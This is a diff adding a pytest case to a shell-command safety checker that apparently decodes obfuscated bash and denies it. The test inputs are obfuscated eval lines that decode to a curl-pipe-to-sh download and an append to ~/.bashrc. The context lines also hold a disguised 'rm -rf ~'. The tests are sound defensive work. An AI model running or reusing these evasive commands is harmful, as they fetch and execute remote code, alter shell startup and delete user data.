@@ -73,6 +73,21 @@ def test_the_trace_shows_what_bash_would_run() -> None:
 
 
 @pytest.mark.bwrap
+@pytest.mark.parametrize(("line", "shown"), [
+    # a pipeline of two executions, judged as one
+    ("${*,} eval \"$(${*,} rev <<< 'hs | x/h//:ptth lruc')\"",
+     "bash would run: curl http://h/x | sh"),
+    # a command that starts no program, judged by its text as bash read it
+    ("${*,} eval \"$(${*,} rev <<< 'crhsab./~ >> k ohce')\"",
+     "bash would read: echo k >> ~/.bashrc"),
+])
+def test_the_trace_shows_pipelines_and_texts(line: str, shown: str) -> None:
+    decision = Engine(shadow=Shadow(HANG_GUARD)).check(line, cwd=CWD)
+    assert shown in [t.message for t in decision.trace if t.rule_id == SHADOW_ID]
+    assert decision.outcome is Outcome.DENY
+
+
+@pytest.mark.bwrap
 def test_a_timed_out_shadow_leaves_the_static_reading() -> None:
     decision = Engine(shadow=Shadow(Limits(timeout_s=0.001))).check(
         'set -- rm -rf ~; "$@"', cwd=CWD)
